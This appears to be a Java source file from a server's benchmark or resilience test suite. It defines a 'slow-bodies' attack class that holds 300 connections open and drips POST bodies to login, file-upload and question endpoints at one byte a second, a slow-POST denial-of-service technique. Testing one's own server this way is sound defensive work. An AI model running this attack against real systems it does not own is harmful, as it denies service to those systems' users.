/* SPDX-License-Identifier: LGPL-2.1-or-later */
package org.copsuite.benchmarks;

import java.io.IOException;
import java.net.Socket;
import java.util.ArrayList;
import java.util.List;

/** Sends three hundred bodies at one byte a second: forms of strangers, and files and texts of members. */
final class SlowBodiesAttack implements Attack
{
    private static final int CONNECTIONS = 300;

    private static final String FORM = "Content-Type: application/x-www-form-urlencoded";

    @Override
    public String name()
    {
        return "slow-bodies";
    }

    @Override
    public void run(Siege siege) throws IOException
    {
        List<Socket> slow = new ArrayList<>();
        while (siege.goesOn()) {
            for (int i = slow.size(); i < CONNECTIONS && siege.goesOn(); i++) {
                slow.add(siege.open(switch (i % 3) {
                    case 0 -> siege.head("POST", "/bin/login", null, FORM, "Content-Length: 4000") + "\r\n";
                    case 1 -> siege.head("POST", Siege.REST + "/files", siege.member(i),
                        "Content-Type: application/octet-stream", "Content-Length: 9000000") + "\r\n";
                    default -> siege.head("POST", Siege.REST + "/questions", siege.member(i), FORM,
                        "Transfer-Encoding: chunked") + "\r\nfff0\r\n";
                }));
            }
            siege.pause(1000);
            Siege.drip(slow);
        }
    }
}
